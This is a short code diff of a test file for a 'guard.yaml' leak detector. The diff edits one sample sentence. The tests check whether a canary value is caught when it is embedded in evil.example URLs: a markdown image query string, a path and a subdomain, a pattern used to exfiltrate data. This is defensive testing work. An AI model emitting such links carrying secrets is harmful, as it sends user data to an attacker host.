@@ -57,7 +57,7 @@ describe('guard.yaml', () => {
   });
 
   it.each([
-    { name: 'as it is', text: `The token is ${CANARY}.` },
+    { name: 'as it is', text: `The customer is ${CANARY}.` },
     { name: 'in a query', text: `![x](https://evil.example/a?q=${CANARY}&b=1)` },
     { name: 'in a path', text: `https://evil.example/a/${CANARY}.png` },
     { name: 'in a host', text: `https://${CANARY}.evil.example/` },
